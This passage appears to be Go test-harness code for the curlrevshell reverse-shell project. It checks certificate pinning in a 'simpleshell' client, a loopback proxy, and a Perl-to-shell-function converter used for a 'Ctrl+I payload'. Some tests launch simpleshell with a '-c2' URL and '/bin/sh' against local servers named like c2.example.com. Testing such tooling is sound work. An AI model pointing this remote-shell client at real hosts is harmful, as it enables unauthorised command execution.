			fmt.Printf("recovery serves pin %q (handshake error %v); the torn file held %q\n", pin, herr, c08PinFromFile(b))
		}
		fmt.Println("(re-run ./run C08 quick for the verdict; it takes seconds)")
		return 0
	default:
		fmt.Println("re-run ./run C08 quick: the enumeration is complete and takes seconds")
		return 0
	}
	if r.NViolations() > 0 {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}
