package checks

/*
 * C13 with other process-wide HTTP settings than the pristine ones: the
 * default transport sends everything through a proxy (a CONNECT tunnel of the
 * harness) and trusts the servers' certificates as roots, so that ordinary
 * validation of any of them would succeed.  The pinned calls must come to
 * the same verdicts as without all that: the decision depends on the call's
 * own fingerprint only.
 */

import (
	"bufio"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"

	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

// c13Tunnel is a minimal CONNECT proxy.
func c13Tunnel() (addr string, tunnels *atomic.Int64, stop func()) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if nil != err {
		ev.Broken("%s", err)
	}
	tunnels = new(atomic.Int64)
	go func() {
		for {
			c, err := l.Accept()
			if nil != err {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				req, err := http.ReadRequest(br)
				if nil != err || "CONNECT" != req.Method {
					fmt.Fprintf(c, "HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
					return
				}
				/* (Names are this proxy's to resolve: every one of them is
				the loopback address, so that servers can be called
				c2.example.com., bücher.example, ...) */
				target := req.Host
				if h, p, err := net.SplitHostPort(target); nil == err && nil == net.ParseIP(h) {
					target = net.JoinHostPort("127.0.0.1", p)
				}
				up, err := net.Dial("tcp", target)
				if nil != err {
					fmt.Fprintf(c, "HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n")
					return
				}
				defer up.Close()
				tunnels.Add(1)
				fmt.Fprintf(c, "HTTP/1.1 200 Connection established\r\n\r\n")
				done := make(chan struct{}, 2)
				go func() { io.Copy(up, br); done <- struct{}{} }()
				go func() { io.Copy(c, up); done <- struct{}{} }()
				<-done
			}()
		}
	}()
	return l.Addr().String(), tunnels, func() { l.Close() }
}

func c13Proxied(r *ev.Result, w *c13World, id func() string) {
	paddr, tunnels, stop := c13Tunnel()
	defer stop()
	dt := http.DefaultTransport.(*http.Transport)
	oldProxy, oldTLS := dt.Proxy, dt.TLSClientConfig
	pool := x509.NewCertPool()
	for _, s := range w.servers {
		pool.AddCert(s.chain[0])
	}
	dt.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: paddr})
	dt.TLSClientConfig = &tls.Config{RootCAs: pool}
	defer func() {
		dt.Proxy, dt.TLSClientConfig = oldProxy, oldTLS
		dt.CloseIdleConnections()
	}()
	n := 0
	calls := []c13Call{{Server: "A", Pin: "pinA"}, {Server: "B", Pin: "pinA"}, {Server: "B", Pin: "pinB"}, {Server: "A", Pin: "pinB"}, {Server: "I", Pin: "pinA"}, {Server: "C", Pin: "pinA"}, {Server: "C", Pin: "pinB"}}
	/* With every server ordinarily trusted, the pin is all that stands
	between a call and the wrong server: however the URL spells its scheme,
	and a malformed fingerprint is still refused outright. */
	for _, sch := range []string{"HTTPS", "Https", "hTTps"} {
		calls = append(calls, c13Call{Server: "A", Pin: "pinA", Scheme: sch}, c13Call{Server: "B", Pin: "pinA", Scheme: sch}, c13Call{Server: "A", Pin: "not-base64", Scheme: sch})
	}
	/* Servers called by names, in spellings that are normalised on the way
	to the handshake (a trailing dot, an internationalised name, capitals). */
	for _, host := range []string{"c2.example.com", "c2.example.com.", "b\u00fccher.example", "C2.Example.COM", "localhost."} {
		calls = append(calls, c13Call{Server: "A", Pin: "pinA", Host: host}, c13Call{Server: "B", Pin: "pinA", Host: host}, c13Call{Server: "I", Pin: "pinA", Host: host})
	}
	for pc := range w.pins {
		if _, pinned := w.pinKey[pc]; !pinned && "none" != pc {
			calls = append(calls, c13Call{Server: "A", Pin: pc}, c13Call{Server: "B", Pin: pc})
		}
	}
	for _, c := range calls {
		i := id()
		vd, err, sh := w.run(c, i, nil)
		w.judge(r, "default transport set to use a proxy and to trust every server's certificate", map[string]any{"calls": []c13Call{c}, "proxied": true}, c, i, vd, err, sh)
		if nil != err && strings.Contains(err.Error(), "proxyconnect") {
			ev.Broken("the harness's proxy does not work: %v", err)
		}
		r.Evaluations++
		r.Traces++
		n++
	}
	r.Set("proxied_calls", n)
	r.Set("proxy_tunnels_opened", tunnels.Load())
	/* The process has put a round tripper of its own on the default client
	(instrumentation, a request counter) whose transport trusts every
	server: the pinned calls do not go through it unpinned. */
	oldClientRT := http.DefaultClient.Transport
	inner := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}
	http.DefaultClient.Transport = c13CountingRT{inner: inner}
	defer func() {
		http.DefaultClient.Transport = oldClientRT
		inner.CloseIdleConnections()
	}()
	for _, c := range []c13Call{{Server: "A", Pin: "pinA"}, {Server: "B", Pin: "pinA"}, {Server: "I", Pin: "pinA"}, {Server: "A", Pin: "not-base64"}, {Server: "B", Pin: "31-bytes"}} {
		i := id()
		vd, err, sh := w.run(c, i, nil)
		w.judge(r, "default client given a wrapping round tripper whose transport trusts every server", map[string]any{"calls": []c13Call{c}, "wrapped_default_client": true}, c, i, vd, err, sh)
		r.Evaluations++
		r.Traces++
	}
}

// c13CountingRT is a round tripper that is not an *http.Transport.
type c13CountingRT struct{ inner http.RoundTripper }

func (c c13CountingRT) RoundTrip(req *http.Request) (*http.Response, error) {
	return c.inner.RoundTrip(req)
}

// c13Program: the simpleshell program itself (flag, environment variable):
// what is given on the command line is what counts, and a malformed
// fingerprint there is refused outright, whatever the environment holds.
func c13Program(r *ev.Result, w *c13World, id func() string) {
	bin := binPath("simpleshell")
	if _, err := os.Stat(bin); nil != err {
		r.Set("simpleshell_program", "not run: "+err.Error())
		return
	}
	type run struct {
		flagFP, envFP string
		server        string
		want          string /* ok | refused */
	}
	pa, pb := w.pins["pinA"], w.pins["pinB"]
	n := 0
	for _, c := range []run{
		{flagFP: pb, envFP: pa, server: "A", want: "refused"},
		{flagFP: "!!!not base64!!!", envFP: pa, server: "A", want: "refused"},
		{flagFP: w.pins["31-bytes"], envFP: pa, server: "A", want: "refused"},
		{flagFP: "sha256//", envFP: pa, server: "A", want: "refused"},
		{flagFP: pa, envFP: pb, server: "B", want: "refused"},
	} {
		i := id()
		args := []string{"-c2", "https://" + w.servers[c.server].addr + "/io"}
		if "" != c.flagFP {
			args = append(args, "-fingerprint", c.flagFP)
		}
		args = append(args, "/bin/sh", "-c", "printf shell-output-of-"+i)
		before := w.servers[c.server].total()
		ctx, cancel := context.WithTimeout(context.Background(), hworld.Watchdog)
		cmd := exec.CommandContext(ctx, bin, args...)
		cmd.Env = append(os.Environ(), "SIMPLESHELL_FP="+c.envFP, "SIMPLESHELL_C2=", "SIMPLESHELL_ARGS=")
		out, _ := cmd.CombinedOutput()
		cancel()
		hits := w.servers[c.server].total() - before
		n++
		what := ""
		switch {
		case "ok" == c.want && 1 != hits:
			what = fmt.Sprintf("the server with the pinned key was reached %d times; output %q", hits, trunc80(string(out)))
		case "refused" == c.want && 0 != hits:
			what = fmt.Sprintf("the request was sent (%d) although the fingerprint given on the command line does not admit that server; output %q", hits, trunc80(string(out)))
		}
		if "" != what {
			r.Violate(ev.Violation{Signature: "program/" + c.want + "-expected", Kind: "c13", Replay: map[string]any{"flag": c.flagFP, "env": c.envFP, "server": c.server},
				What: fmt.Sprintf("simpleshell -fingerprint %q with SIMPLESHELL_FP=%q against server %s: %s", c.flagFP, c.envFP, c.server, what)})
		}
	}
	r.Evaluations += n
	r.Traces += n
	r.Set("simpleshell_program_runs", n)
}

// total is the number of requests the server has handled so far.
func (s *c13Server) total() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, h := range s.hits {
		n += h
	}
	return n
}
