package checks

/*
 * C16 — a Perl script wrapped as a shell function still runs as the same
 * program.  Programs are generated exhaustively from a small grammar (plus one
 * program per byte value, 135 consecutive lengths, large sizes, empty ones),
 * wrapped with the real FromPerl, and (dynamic oracle) run both directly and
 * through the function under dash and bash, (static oracle) recovered from the
 * function text with a reference uudecoder and compared with the statement's
 * definition of the program text.
 */

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing/iotest"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C16"] = checkDef{level: "exploration", run: c16, replay: c16Replay}
}

type c16Case struct {
	Class  string   `json:"class"`
	Script string   `json:"script"`
	Args   []string `json:"args"`
	Stdin  string   `json:"stdin"`
	Shell  string   `json:"shell"`
}

// refDecode is a reference uudecoder written from the format description.
func refDecode(enc []byte) ([]byte, error) {
	var out []byte
	for _, line := range bytes.Split(enc, []byte{'\n'}) {
		if 0 == len(line) {
			continue
		}
		v := func(c byte) (byte, error) {
			if '`' == c {
				return 0, nil
			}
			if c < 32 || c > 95 {
				return 0, fmt.Errorf("character %q outside the alphabet", c)
			}
			return c - 32, nil
		}
		n, err := v(line[0])
		if nil != err {
			return nil, err
		}
		body := line[1:]
		if len(body) != (int(n)+2)/3*4 {
			return nil, fmt.Errorf("line of %d characters for %d bytes", len(body), n)
		}
		var dec []byte
		for i := 0; i+4 <= len(body); i += 4 {
			var g [4]byte
			for j := 0; j < 4; j++ {
				if g[j], err = v(body[i+j]); nil != err {
					return nil, err
				}
			}
			dec = append(dec, g[0]<<2|g[1]>>4, g[1]<<4|g[2]>>2, g[2]<<6|g[3])
		}
		out = append(out, dec[:n]...)
	}
	return out, nil
}

// c16Expected computes, from the statement, the program text perl must
// receive and the comment lines kept in front of the function.
func c16Expected(script string) (program, kept string) {
	t := strings.TrimSpace(script)
	if "" == script {
		return "", ""
	}
	lines := strings.Split(t, "\n")
	var lead []string
	for i, l := range lines {
		if !strings.HasPrefix(l, "#") {
			break
		}
		lead = append(lead, l)
		lines[i] = ""
	}
	start := 0
	for start < len(lead) && (strings.HasPrefix(lead[start], "#!") || "#" == lead[start]) {
		start++
	}
	lead = lead[start:]
	program = strings.Join(lines, "\n") + "\n"
	if 0 != len(lead) {
		kept = strings.Join(lead, "\n") + "\n"
	}
	return program, kept
}

// c16Static checks the function text against the statement.
func c16Static(r *ev.Result, c c16Case, name string, fn []byte) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "static/" + sig + "/" + c.Class, What: what, Kind: "c16", Replay: c})
	}
	program, kept := c16Expected(c.Script)
	s := string(fn)
	fname := strings.TrimSuffix(name, filepath.Ext(name))
	if "" == c.Script {
		/* The empty file: judged by the dynamic oracle. */
		return
	}
	if !strings.HasPrefix(s, kept+fname+"() {") {
		v("head", fmt.Sprintf("function text does not start with the kept comments %q followed by %q: %q", kept, fname+"() {", trunc80(s)))
		return
	}
	const open, closeM = "q{`\n", "\n}=~y/sb/\\47\\134/r"
	i := strings.Index(s, open)
	j := strings.LastIndex(s, closeM)
	if i < 0 || j < i {
		v("shape", fmt.Sprintf("cannot find the encoded body in %q", trunc80(s)))
		return
	}
	body := s[i+len(open) : j]
	if strings.ContainsAny(body, "'\\") {
		v("unsafe-character", "the encoded body contains a single quote or a backslash")
	}
	body = strings.NewReplacer("s", "'", "b", "\\").Replace(body)
	dec, err := refDecode([]byte(body))
	if nil != err {
		v("undecodable", fmt.Sprintf("encoded body does not decode: %v", err))
		return
	}
	if string(dec) != program {
		v("program-text", fmt.Sprintf("perl would receive %q, the statement says %q", trunc80(string(dec)), trunc80(program)))
	}
}

func shQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// c16RunBatch runs the cases (all with the same shell) in dir and returns
// (direct, wrapped) observations.
type c16Obs struct {
	Out, Err string
	Status   string
}

func c16RunBatch(shell, dir string, cases []c16Case) (direct, wrapped []c16Obs, fns [][]byte, err error) {
	var script bytes.Buffer
	script.WriteString("cd " + dir + " || exit 99\n")
	fns = make([][]byte, len(cases))
	for i, c := range cases {
		name := fmt.Sprintf("prog_%d.pl", i)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(c.Script), 0o644); nil != err {
			return nil, nil, nil, err
		}
		fn, ferr := shellfuncsfile.FromPerl(name, strings.NewReader(c.Script))
		if nil != ferr {
			fn = []byte(fmt.Sprintf("prog_%d() { echo 'FromPerl failed' >&2; return 98; }\n", i))
		}
		fns[i] = fn
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f_%d.sh", i)), fn, 0o644)
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("in_%d", i)), []byte(c.Stdin), 0o644)
		var args []string
		for _, a := range c.Args {
			args = append(args, shQuote(a))
		}
		as := strings.Join(args, " ")
		fmt.Fprintf(&script, "perl ./%s %s <in_%d >d_%d.out 2>d_%d.err; echo $? >d_%d.st\n", name, as, i, i, i, i)
		fmt.Fprintf(&script, "( . ./f_%d.sh; prog_%d %s ) <in_%d >w_%d.out 2>w_%d.err; echo $? >w_%d.st\n", i, i, as, i, i, i, i)
	}
	sp := filepath.Join(dir, "driver.sh")
	os.WriteFile(sp, script.Bytes(), 0o644)
	cmd := exec.Command(shell, sp)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "LC_ALL=C", "PERL5OPT=", "PERL5DB=")
	if out, err := cmd.CombinedOutput(); nil != err {
		return nil, nil, nil, fmt.Errorf("%s driver: %v: %s", shell, err, trunc80(string(out)))
	}
	rd := func(f string) string {
		b, _ := os.ReadFile(filepath.Join(dir, f))
		return string(b)
	}
	for i := range cases {
		direct = append(direct, c16Obs{rd(fmt.Sprintf("d_%d.out", i)), rd(fmt.Sprintf("d_%d.err", i)), strings.TrimSpace(rd(fmt.Sprintf("d_%d.st", i)))})
		wrapped = append(wrapped, c16Obs{rd(fmt.Sprintf("w_%d.out", i)), rd(fmt.Sprintf("w_%d.err", i)), strings.TrimSpace(rd(fmt.Sprintf("w_%d.st", i)))})
	}
	return direct, wrapped, fns, nil
}

// c16Judge is the dynamic oracle.
func c16Judge(r *ev.Result, c c16Case, d, w c16Obs) {
	v := func(sig, what string) {
		cls := c.Class
		r.Violate(ev.Violation{Signature: "dynamic/" + sig + "/" + cls, What: fmt.Sprintf("%s, args %q: %s; script %q", c.Shell, c.Args, what, trunc80(c.Script)), Kind: "c16", Replay: c})
	}
	if d.Out != w.Out {
		v("stdout", fmt.Sprintf("stdout differs: direct %q, wrapped %q (wrapped stderr %q)", trunc80(d.Out), trunc80(w.Out), trunc80(w.Err)))
		return
	}
	dies := strings.Contains(c.Script, "die ") && "0" != d.Status && !strings.Contains(d.Out, "never-dies")
	if dies {
		if "0" == w.Status {
			v("die-status", fmt.Sprintf("the script dies (direct status %s) but the function returned 0", d.Status))
		}
		msg := strings.TrimSpace(d.Err)
		if i := strings.Index(msg, " at "); i > 0 {
			msg = msg[:i]
		}
		if "" != msg && !strings.Contains(w.Err, msg) {
			v("die-message", fmt.Sprintf("the script's message %q is not in the function's stderr %q", msg, trunc80(w.Err)))
		}
		return
	}
	if d.Status != w.Status {
		v("status", fmt.Sprintf("exit status differs: direct %s, wrapped %s (wrapped stderr %q)", d.Status, w.Status, trunc80(w.Err)))
	}
}

// c16Programs builds the case list.
func c16Programs(quick bool) []c16Case {
	var cs []c16Case
	add := func(class, script string, args []string, stdin string) {
		for _, sh := range []string{"dash", "bash"} {
			cs = append(cs, c16Case{Class: class, Script: script, Args: args, Stdin: stdin, Shell: sh})
		}
	}
	/* (A) one program per byte value, both quote styles. */
	for b := 1; b < 256; b++ {
		ch := string([]byte{byte(b)})
		sq, dq := ch, ch
		switch ch {
		case "'":
			sq = `\'`
		case "\\":
			sq, dq = `\\`, `\\`
		case "\"":
			dq = `\"`
		case "$", "@":
			dq = `\` + ch
		}
		add("byte-single-quoted", "print 'x"+sq+"y', \"\\n\";\n", nil, "")
		add("byte-double-quoted", "print \"x"+dq+"y\\n\";\n", nil, "")
	}
	/* (B) 135 consecutive lengths: every residue mod 45 and mod 3. */
	for pad := 0; pad < 135; pad++ {
		add("length", "print \"len\\n\"; #"+strings.Repeat("p", pad)+"\nprint \"end\\n\";\n", nil, "")
		add("length-quote-heavy", "print '"+strings.Repeat("\\\\\\'", pad%23)+"', \"\\n\"; #"+strings.Repeat("'", pad)+"\n", nil, "")
	}
	/* (C) grammar. */
	stmts := []string{
		"print \"lit'eral \\\\ {brace}\\n\";",
		"print join(\"|\", @ARGV), \"\\n\";",
		"print while <STDIN>;",
		"sub f { return \"f:\" . shift } print f(\"x\"), \"\\n\";",
		"print <<\"EOT\";\nhere ' \\\\ { } doc\nEOT",
		"{ my $x = 1; print \"block$x\\n\"; }",
		"exit 3;",
		"die \"fatal message\\n\";",
		"print \"before end\\n\";\n__END__\ntext after ' \\ end",
		"exit 0;",
		"exit 255;",
		/* Lines ending in blanks inside literals and here-docs. */
		"print \"one \ntwo\t\nthree\\n\";",
		"print <<'EOT';\ntrailing blanks  \n\ttab line\t\nEOT",
		"print length('a \n b'), \"\\n\";   ",
		/* Lines that merely look like the end of the program. */
		"print <<'EOT';\nline\n__END__\nstill in the here-doc\nEOT\nprint \"after\\n\";",
		"print \"a\n__DATA__\nb\\n\"; exit 5;",
	}
	leads := []string{"", "#!/usr/bin/perl\n", "#\n", "# text comment\n", "#!/usr/bin/perl\n#\n# TABDOC: prog does things\n# second ' comment\n", "# comment\n\n# not lead any more\n"}
	var progs []string
	for _, a := range stmts {
		progs = append(progs, a+"\n")
		for _, b := range stmts {
			progs = append(progs, a+"\n"+b+"\n")
			if !quick {
				for _, c := range append(append([]string{}, stmts[:9]...), stmts[11:]...) {
					progs = append(progs, a+"\n"+b+"\n"+c+"\n")
				}
			}
		}
	}
	for pi, p := range progs {
		for li, l := range leads {
			if quick && 0 != (pi+li)%2 && li > 1 {
				continue /* quick: every program with leads 0,1 and alternating others */
			}
			add("grammar", l+p, nil, "in1\nin2\n")
			add("grammar-args", "\n  "+l+p+"\n\n", []string{"a1", "a 2", "-x"}, "in1\n")
		}
	}
	/* (C') long leading comment blocks (a licence text, a manual): 100, 127,
	128, 129, 203 and 600 lines, kept in front, the program after them
	intact and its line numbers with it. */
	for _, n := range []int{100, 127, 128, 129, 203, 600} {
		var lead strings.Builder
		lead.WriteString("#!/usr/bin/perl\n")
		for i := 1; i < n; i++ {
			fmt.Fprintf(&lead, "# header line %d of %d\n", i+1, n)
		}
		add("long-header", lead.String()+"print \"line \", __LINE__, \" @ARGV\\n\";\nprint while <STDIN>;\nexit 7;\n", []string{"a", "b c"}, "in\n")
	}
	/* (D) argument vectors. */
	for _, av := range [][]string{nil, {"x"}, {"-e"}, {"--"}, {"a b"}, {"'"}, {"$(x)"}, {"a", "b", "c"}, {""}, {"-e", "print 1"}, {"\\"}, {"*"}} {
		add("argv", "print scalar(@ARGV), \":\", join(\"|\", @ARGV), \"\\n\";\n", av, "")
		add("argv-stdin", "print join(\"|\", @ARGV), \"\\n\"; print while <STDIN>;\n", av, "line\n")
		add("argv-die", "die \"bad: @ARGV\\n\" if @ARGV; print \"never-dies\\n\";\n", av, "")
	}
	/* (E) sizes. */
	for _, kb := range []int{1, 4, 16, 32, 60, 64} {
		add("size", "print \"big\\n\";\n#"+strings.Repeat("s'\\", kb*1024/3)+"\nprint \"done\\n\";\n", []string{"z"}, "")
	}
	/* (F) empty and whitespace-only. */
	for _, s := range []string{"", " ", "\n", "\n\n  \n", "#!/usr/bin/perl\n", "# only a comment\n", "\t"} {
		cls := "whitespace-only"
		if "" == s {
			cls = "empty"
		}
		add(cls, s, nil, "")
		add(cls, s, []string{"arg"}, "")
	}
	return cs
}

func c16(r *ev.Result, tier string) {
	quick := isQuick(tier)
	r.Rule = "programs: one per byte value 1..255 in single- and double-quoted literals; 135 consecutive lengths x 2 shapes; every sequence of <=2 (thorough 3) statements over a 16-statement grammar " +
		"(literals, @ARGV, STDIN, sub, here-doc, block, exit 0/3/255, die, __END__) x 6 leading-comment shapes x 2 argument/stdin settings; 12 argument vectors x 3 programs; sizes 1..64 KiB; empty and whitespace-only; " +
		"each under dash and bash. Oracles: dynamic (stdout, status / die message vs perl on the script) and static (reference uudecoding of the function body vs the statement's program text). distinct = distinct (script, args, stdin, shell)."
	cases := c16Programs(quick)
	base := ev.Scratch("c16-")
	defer os.RemoveAll(base)
	const batch = 100
	/* Group by shell. */
	byShell := map[string][]c16Case{}
	for _, c := range cases {
		byShell[c.Shell] = append(byShell[c.Shell], c)
	}
	type job struct {
		shell  string
		lo, hi int
	}
	var jobs []job
	for sh, cs := range byShell {
		for lo := 0; lo < len(cs); lo += batch {
			jobs = append(jobs, job{sh, lo, min(lo+batch, len(cs))})
		}
	}
	var mu sync.Mutex
	parallel(len(jobs), func(ji int) {
		j := jobs[ji]
		cs := byShell[j.shell][j.lo:j.hi]
		dir := filepath.Join(base, fmt.Sprintf("%s-%d", j.shell, j.lo))
		os.MkdirAll(dir, 0o755)
		defer os.RemoveAll(dir)
		d, w, fns, err := c16RunBatch(j.shell, dir, cs)
		if nil != err {
			ev.Broken("%s", err)
		}
		for i, c := range cs {
			c16Judge(r, c, d[i], w[i])
			if "dash" == c.Shell {
				c16Static(r, c, fmt.Sprintf("prog_%d.pl", i), fns[i])
			}
		}
		mu.Lock()
		r.Evaluations += len(cs)
		r.Distinct += len(cs)
		mu.Unlock()
	})
	/* The converter the program keeps for Ctrl+I, over histories. */
	depth := 4
	if !quick {
		depth = 5
	}
	c16Converters(r, base, depth)
	c16Links(r, base)
	/* The script may come from any io.Reader: one byte at a time, in halves,
	the last bytes together with io.EOF (as archive/zip, compress/gzip and
	archive/tar entries deliver them), everything together with io.EOF. */
	for si, script := range []string{c16ConvScripts[0], c16ConvScripts[1], strings.Repeat("# a comment line to make the script longer than any buffer\n", 1200) + "print \"long\\n\";\nexit 3;\n"} {
		shapes := map[string]func() io.Reader{
			"one-byte-reads":    func() io.Reader { return iotest.OneByteReader(strings.NewReader(script)) },
			"half-reads":        func() io.Reader { return iotest.HalfReader(strings.NewReader(script)) },
			"data-with-eof":     func() io.Reader { return iotest.DataErrReader(strings.NewReader(script)) },
			"data-with-eof-1b":  func() io.Reader { return iotest.DataErrReader(iotest.OneByteReader(strings.NewReader(script))) },
			"all-at-once-w-eof": func() io.Reader { return &allAtOnceEOF{s: script} },
			"timeout-then-data": func() io.Reader { return iotest.TimeoutReader(strings.NewReader(script)) },
		}
		for name, mk := range shapes {
			fn, err := shellfuncsfile.FromPerl("tool.pl", mk())
			c := c16Case{Class: "reader-shape/" + name, Script: script, Shell: fmt.Sprintf("script %d", si)}
			if "timeout-then-data" == name {
				/* A reader that fails: an error, or else the whole script. */
				if nil != err {
					continue
				}
			} else if nil != err {
				r.Violate(ev.Violation{Signature: "static/conversion-failed/reader-shape/" + name, What: fmt.Sprintf("FromPerl failed on a reader delivering the script as %s: %v", name, err), Kind: "c16conv", Replay: c})
				continue
			}
			c16Static(r, c, "tool.pl", fn)
			r.Add(1)
		}
	}
	/* Name derivation, statically. */
	for _, n := range []string{"tool.pl", "my.tool.pl", "dir/sub/x.pl", "noext", "UPPER.PL.pl"} {
		fn, err := shellfuncsfile.FromPerl(n, strings.NewReader("print 1;\n"))
		want := strings.TrimSuffix(filepath.Base(n), filepath.Ext(n)) + "() {"
		if nil != err || !strings.HasPrefix(string(fn), want) {
			r.Violate(ev.Violation{Signature: "static/function-name", What: fmt.Sprintf("file %q: function text starts %q, want %q", n, trunc80(string(fn)), want), Kind: "c16", Replay: c16Case{Class: "name", Script: "print 1;\n"}})
		}
		r.Add(1)
	}
	r.Sample(5, map[string]any{"class": "grammar", "script": cases[len(cases)/2].Script, "args": cases[len(cases)/2].Args, "shell": cases[len(cases)/2].Shell})
	r.Sample(5, map[string]any{"class": "byte-single-quoted", "script": "print 'x\\'y', \"\\n\";\n"})
	r.Sample(5, map[string]any{"class": "length", "script": "print \"len\\n\"; #ppp\nprint \"end\\n\";\n"})
	r.Assume("perl 5.36, dash and bash of this image; $0, __FILE__ and __DATA__ are outside the statement and not generated")
	r.Assume("program space: a grammar, not 'every Perl program'; every byte value, every length residue mod 45 and mod 3, and both substituted characters occur")
}

func c16Replay(kind string, raw json.RawMessage) int {
	if "c16conv" == kind {
		fmt.Println("converter-history findings are replayed by re-running ./run C16 quick; the history is in the artefact (field shell)")
		return 2
	}
	var c c16Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	if "" == c.Shell {
		c.Shell = "dash"
	}
	base := ev.Scratch("c16r-")
	defer os.RemoveAll(base)
	d, w, fns, err := c16RunBatch(c.Shell, base, []c16Case{c})
	if nil != err {
		fmt.Println(err)
		return 2
	}
	fmt.Printf("script   %q\nfunction %q\ndirect   %+v\nwrapped  %+v\n", c.Script, fns[0], d[0], w[0])
	r := ev.New("C16", "quick", "exploration")
	c16Judge(r, c, d[0], w[0])
	c16Static(r, c, "prog_0.pl", fns[0])
	if r.NViolations() > 0 {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// allAtOnceEOF returns everything it has together with io.EOF.
type allAtOnceEOF struct {
	s    string
	done bool
}

func (a *allAtOnceEOF) Read(p []byte) (int, error) {
	if a.done {
		return 0, io.EOF
	}
	if len(p) < len(a.s) {
		n := copy(p, a.s)
		a.s = a.s[n:]
		return n, nil
	}
	a.done = true
	return copy(p, a.s), io.EOF
}
