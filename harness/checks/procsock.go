package checks

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// listeningSockets returns the local addresses (as /proc/net/tcp* spells
// them, prefixed by the table) of the TCP sockets in state LISTEN that
// process pid holds a descriptor of.  ok is false if /proc could not be read.
func listeningSockets(pid int) (addrs []string, ok bool) {
	fds, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	if nil != err {
		return nil, false
	}
	inodes := map[string]bool{}
	for _, fd := range fds {
		l, err := os.Readlink(filepath.Join(fmt.Sprintf("/proc/%d/fd", pid), fd.Name()))
		if nil == err && strings.HasPrefix(l, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(l, "socket:["), "]")] = true
		}
	}
	for _, tbl := range []string{"tcp", "tcp6"} {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/%s", pid, tbl))
		if nil != err {
			continue
		}
		for _, line := range strings.Split(string(b), "\n")[1:] {
			f := strings.Fields(line)
			/* sl local rem st tx:rx tr:when retr uid timeout inode */
			if len(f) < 10 || "0A" != f[3] || !inodes[f[9]] {
				continue
			}
			port := f[1]
			if i := strings.LastIndex(port, ":"); i >= 0 {
				if n, err := strconv.ParseUint(port[i+1:], 16, 16); nil == err {
					port = fmt.Sprintf("%s:%d", port[:i], n)
				}
			}
			addrs = append(addrs, tbl+" "+port)
		}
	}
	return addrs, true
}
