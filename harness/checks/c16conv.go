package checks

/*
 * C16 the way the program uses it: one long-lived Converter turns a
 * directory holding a Perl script into the Ctrl+I payload, again and again,
 * while the script is replaced in between (also by an older file, as mv /
 * cp -p / rsync -t / tar x leave them) and while other Converters of the same
 * process have their tables changed.  Every history of <=4 operations is run
 * on a real directory and on an fstest.MapFS (no modification times); after
 * every conversion the function text must be the wrapped form of the script
 * that is there now (the static oracle of this check).
 */

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing/fstest"
	"time"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

var c16ConvScripts = []string{
	"#!/usr/bin/env perl\n# tool, first variant\nprint \"v0 @ARGV\\n\";\nexit 4;\n",
	"#!/usr/bin/env perl\n# tool, second variant\nprint \"v1 it's @ARGV\\n\";\nexit 3;\n",
	"print 'v2', \"\\n\";\n",
	/* A first line of more than 80 bytes (a one-liner, a long first
	statement); not part of the history alphabet. */
	"print \"v3 \", \"a long first statement that goes on and on, well past the eightieth column of the line\", \" @ARGV\\n\"; exit 6;\n# second line\n",
}

// c16ConvAlphabet:
//
//	0 1 2  the script is replaced by variant 0/1/2 (real directory: with a
//	       modification time older than / equal to / newer than before)
//	C      the long-lived converter converts the directory
//	F      a fresh default converter converts the directory
//	S      another converter of the process switches *.pl off
//	T      another converter of the process gets a custom *.pl filter
//	U      the long-lived converter itself gets a filter for an unrelated
//	       pattern (*.txt): nothing to do with Perl scripts
const c16ConvAlphabet = "012CFSTU"

func c16Converters(r *ev.Result, base string, depth int) {
	var seqs []string
	var rec func(cur string)
	rec = func(cur string) {
		if strings.ContainsAny(cur, "CF") && strings.ContainsAny(cur[len(cur)-1:], "CF") {
			seqs = append(seqs, cur)
		}
		if len(cur) == depth {
			return
		}
		for _, a := range c16ConvAlphabet {
			rec(cur + string(a))
		}
	}
	rec("")
	n := 0
	before := r.NViolations()
	custom := func(name string, rd io.Reader) ([]byte, error) {
		b, err := io.ReadAll(rd)
		return append([]byte("# custom filter was here\n"), b...), err
	}
	for _, fsKind := range []string{"directory", "mapfs"} {
		for si, seq := range seqs {
			if r.NViolations() >= before+6 {
				break
			}
			dir := filepath.Join(base, fmt.Sprintf("conv-%s-%d", fsKind, si))
			src := filepath.Join(dir, "src")
			os.MkdirAll(src, 0o755)
			mfs := fstest.MapFS{"src": &fstest.MapFile{Mode: os.ModeDir | 0o755}}
			conv := shellfuncsfile.NewDefaultConverter()
			other := shellfuncsfile.NewDefaultConverter()
			if "mapfs" == fsKind {
				conv.FS = mfs
			}
			cur := 0
			mtime := time.Date(2024, 5, 6, 7, 8, 9, 0, time.UTC)
